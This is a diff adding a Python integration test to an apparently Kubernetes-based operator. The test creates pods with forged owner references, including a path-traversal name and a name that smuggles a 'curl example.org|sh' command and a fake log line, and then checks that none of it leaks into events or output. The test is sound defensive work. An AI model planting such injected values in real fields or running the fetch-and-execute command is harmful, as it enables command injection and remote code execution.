@@ -250,6 +250,40 @@ def test_what_only_a_replica_set_was_told_is_said_on_the_deployment_once_a_chang
     controlplane.kubectl("delete", "namespace", plane, "--wait=false")
 
 
+def test_an_owner_that_is_no_name_gets_nowhere_and_keeps_nothing_from_being_said(
+    controlplane: ControlPlane, operate: Operate
+) -> None:
+    """The API server takes any text there, from whoever may create pods. Such a pod is its own owner."""
+    plane = controlplane.namespace("forged")
+    wait_for(lambda: create(controlplane, plane, api_pod(), dry_run=True).is_success, 15, "pods can be made")
+    owners = {
+        "event": {"apiVersion": "x.example/v1", "kind": "Deployment", "name": "a/b"},
+        "path": {"apiVersion": "apps/v1", "kind": "ReplicaSet", "name": "../deployments/x"},
+        "line": {
+            "apiVersion": "x.example/v1",
+            "kind": "Deployment",
+            "name": "x; curl example.org|sh #\nmissed deployment/y",
+        },
+    }
+    for name, owner in owners.items():
+        references = [owner | {"uid": name, "controller": True}]
+        create(
+            controlplane, plane, api_pod() | {"metadata": {"name": name, "ownerReferences": references}}
+        ).raise_for_status()
+    controlplane.namespace(plane, INJECT)
+    wait_for(lambda: plane in state(controlplane), 30, "it is said", need=[operate.process])
+    lines = state(controlplane)[plane].splitlines()[1:]
+    here = {
+        each["metadata"]["name"] for each in controlplane.pods(plane)
+    }  # the garbage collector takes what it can judge
+    assert {each for each in lines if each.startswith("missed")} >= {f"missed pod/{name} (injected)" for name in here}
+    assert {"event", "line"} <= here
+    found = controlplane.api.get(f"/api/v1/namespaces/{plane}/events").json()["items"]
+    assert {each["involvedObject"]["name"] for each in found if each["reason"] == "NotInjected"} >= here
+    assert "curl" not in json.dumps([found, state(controlplane)])
+    controlplane.kubectl("delete", "namespace", plane, "--wait=false")
+
+
 def test_a_pod_that_slipped_by_is_found_within_30_s(controlplane: ControlPlane, operate: Operate) -> None:
     """By the program as it is shipped; opted in and not restarted. From the label on, at the worst moment for it."""
     plane = controlplane.namespace("timed")
